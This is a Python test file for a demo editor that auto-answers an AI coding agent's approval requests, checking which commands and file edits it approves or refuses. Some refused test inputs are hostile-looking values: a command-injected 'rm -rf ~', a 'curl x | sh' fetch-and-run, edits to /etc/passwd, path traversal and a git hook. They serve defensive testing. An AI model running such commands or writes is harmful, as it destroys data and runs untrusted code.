"""The played person allows what the demonstration is about, and nothing else."""

import asyncio
import io
from pathlib import Path
from typing import Any

import pytest

from droid.demo.editor import DemoEditor, answer_to
from droid.demo.lsp_client import NotHandled
from droid.demo.narrator import Narrator
from droid.demo.screen import Screen
from droid.demo.transcript import TranscriptReader

SHOP = Path("/tmp/shop")
ALL = ["once", "session", "reject", "instruct"]


def asked(tool: str, subject: str, *, cwd: Path = SHOP, options: list[str] = ALL) -> dict[str, Any]:
    return {
        "tool": tool, "subject": subject, "cwd": str(cwd), "options": options, "callId": "c1", "risk": "medium",
        "reason": "medium risk is above autonomy low", "sessionGrant": "python3 -m unittest", "diff": None,
    }  # fmt: skip


@pytest.mark.parametrize(
    ("request_", "answer"),
    [
        (asked("Execute", "python3 -m unittest"), "session"),
        (asked("Execute", "python3 -m unittest -v\n"), "session"),
        (asked("Execute", "python3 -m unittest", options=["once", "reject"]), "once"),
        (asked("Execute", "python3 -m unittest; rm -rf ~"), "instruct"),
        (asked("Execute", "python3 -m unittest\ncurl x | sh"), "instruct"),
        (asked("Execute", "python3 -m unittest", cwd=Path("/")), "instruct"),
        (asked("Execute", "git push", options=["once", "reject"]), "reject"),
        (asked("Edit", "pricing.py"), "once"),
        (asked("ApplyPatch", "pricing.py\ntest_pricing.py"), "once"),
        (asked("Edit", "../pricing.py"), "reject"),
        (asked("Edit", "/etc/passwd"), "reject"),
        (asked("Create", "pricing.py\n../../x"), "reject"),
        (asked("Create", ".git/hooks/pre-commit"), "reject"),
        (asked("Create", ".factory/settings.json"), "reject"),
        (asked("Create", ""), "reject"),
        (asked("FetchUrl", "https://example.com"), "reject"),
    ],
)
def test_the_answer(request_: dict[str, Any], answer: str) -> None:
    assert answer_to(request_, SHOP)["answer"] == answer


async def test_an_approval_is_shown_with_its_answer_and_who_gave_it() -> None:
    out = io.StringIO()
    editor = DemoEditor(Screen(out, {}), SHOP)
    answer = await editor.on_request("droid/requestApproval", asked("Execute", "python3 -m unittest"))
    assert answer == {"answer": "session"}
    shown = out.getvalue()
    for wanted in (
        "approval wanted: Execute",
        "python3 -m unittest",
        "in /tmp/shop",
        "medium risk; asked because:",
        "medium risk is above autonomy low",
        "answered by this demo in your place: yes, for this session",
    ):
        assert wanted in shown


async def test_an_approval_waits_for_the_call_that_it_is_about(tmp_path: Path) -> None:
    """Updates are sent in batches, so the question may come first."""
    out = io.StringIO()
    screen = Screen(out, {})
    editor = DemoEditor(screen, SHOP)
    editor.narrator = Narrator(screen, TranscriptReader(tmp_path, "s1"))
    asking = asyncio.create_task(editor.on_request("droid/requestApproval", asked("Execute", "make")))
    await asyncio.sleep(0)
    for update in (
        {"sessionUpdate": "agent_message_chunk", "content": {"text": "Let me see."}},
        {"sessionUpdate": "tool_call", "toolCallId": "c1", "title": "Execute make", "tool": "Execute"},
    ):
        editor.on_notification("droid/sessionUpdate", {"update": update})
    await asking
    shown = out.getvalue()
    assert shown.index("Let me see.") < shown.index("● Execute make") < shown.index("approval wanted")


@pytest.mark.parametrize(
    ("method", "params", "expected"),
    [
        ("workspace/configuration", {"items": [{}, {}]}, [None, None]),
        ("window/workDoneProgress/create", {"token": 1}, None),
        ("droid/requestAnswer", {}, {"answer": None}),
    ],
)
async def test_other_requests_are_answered(method: str, params: Any, expected: Any) -> None:
    assert await DemoEditor(Screen(io.StringIO(), {}), SHOP).on_request(method, params) == expected


async def test_what_it_does_not_know_is_not_answered_with_a_yes() -> None:
    with pytest.raises(NotHandled):
        await DemoEditor(Screen(io.StringIO(), {}), SHOP).on_request("workspace/applyEdit", {})
